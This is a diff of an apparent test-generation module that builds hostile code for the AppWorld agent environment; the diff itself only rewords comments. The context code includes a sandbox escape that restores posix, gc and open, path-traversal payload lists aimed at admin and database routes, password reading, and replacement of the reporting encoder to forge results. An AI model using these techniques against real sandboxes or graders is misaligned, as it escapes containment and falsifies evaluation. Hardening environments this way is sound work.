@@ -1,4 +1,4 @@
-"""Hostile blocks of code for AppWorld: routes to the server's administration, forged records, the operating system."""
+"""Hostile blocks of code for AppWorld: routes to the server's administration, forged records, attacks on the system."""
 
 from __future__ import annotations
 
@@ -6,7 +6,7 @@ import json
 import random
 from collections.abc import Callable, Mapping
 
-# Ways to what the package's guard takes away: `posix`, `open` and `gc` as they really are.
+# Restores what the package's guard removes: the real `posix`, `open` and `gc`.
 _REAL = """
 importer = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "BuiltinImporter")
 posix, gc, thread = (importer.load_module(name) for name in ("posix", "gc", "_thread"))
@@ -14,7 +14,7 @@ opened = importer.load_module("_io").open
 """
 _WORLD = _REAL + 'world = next(o for o in gc.get_objects() if type(o).__name__ == "World")\n'
 COMPLETE = "apis.supervisor.complete_task()"
-# Makes a note that nobody asked for: what it leaves in the databases fails every task.
+# Makes a note that no task asks for: its trace in the databases fails every task.
 SIDE_EFFECT = """
 accounts = apis.supervisor.show_account_passwords()
 password = [a["password"] for a in accounts if a["account_name"] == "simple_note"][0]
@@ -22,7 +22,7 @@ email = apis.supervisor.show_profile()["email"]
 token = apis.simple_note.login(username=email, password=password)["access_token"]
 print(apis.simple_note.create_note(title="WORD", content="oat milk", access_token=token))
 """
-# How a path argument may lead elsewhere, before and after the route that is meant.
+# Prefixes and suffixes by which a path argument may lead to another route.
 _BEFORE = ("../../", "..%2f..%2f", "%2e%2e/%2e%2e/", "./../../", "1/../../../", "//../../", "..\\..\\", "1/..;/../../",
            "../..//", "..%252f..%252f", "%2e%2e%2f%2e%2e%2f", "\\u2025/\\u2025/", "../../spotify/../")  # fmt: skip
 _AFTER = ("?", "#", "%3f", "%23", "?x=", "#/", ";", "%00", "/?", "")
@@ -37,12 +37,12 @@ _CALLS = (
 
 
 def route(rng: random.Random, target: str = "") -> str:
-    """A path argument that is meant to reach another route."""
+    """A path argument that tries to reach another route."""
     return rng.choice(_BEFORE) + (target or rng.choice(_ROUTES)) + rng.choice(_AFTER)
 
 
 def routes(rng: random.Random) -> str:
-    """Calls whose path arguments lead to the administration, whatever they answer."""
+    """Calls whose path arguments lead to the administration."""
     lines = []
     for _ in range(rng.randrange(1, 6)):
         api, name = rng.choice(_CALLS)
@@ -52,7 +52,7 @@ def routes(rng: random.Random) -> str:
 
 
 def scratch(rng: random.Random, word: str) -> tuple[str, ...]:
-    """Turns to a scratch database, leaves a side effect in it, and turns back."""
+    """Switches to a scratch database, leaves a side effect in it, and switches back."""
     before, after = ("../../", "?") if rng.random() < 0.5 else (rng.choice(_BEFORE), rng.choice(_AFTER))
     path = f"{before}dbs{after}"
     reading, writing = rng.choice(
@@ -68,7 +68,7 @@ def scratch(rng: random.Random, word: str) -> tuple[str, ...]:
 
 
 def attack(rng: random.Random, mark: str, word: str) -> tuple[str, str]:
-    """(name, code) of an attack that must neither solve a task nor lose the episode."""
+    """(name, code) of an attack that must neither solve a task nor make the episode invalid."""
     name = rng.choice(_QUICK if rng.random() < 0.96 else _SLOW)
     return name, _ATTACKS[name](rng).replace("MARK", mark).replace("WORD", word)
 
@@ -110,7 +110,7 @@ def _forged_reply(rng: random.Random) -> str:
 
 
 def _report(rng: random.Random) -> str:
-    """The child's own encoder says something else."""
+    """Replaces the child's own encoder, so that it reports something else."""
     report = rng.choice(("null", "[1]", '[{"app": "venmo"}]', "[" * 3_000 + "]" * 3_000, "[{}]", "5", ""))
     return f"""{_WORLD}
 encoder = type(world).__init__.__globals__["sys"].modules["environments.appworld.inside"]
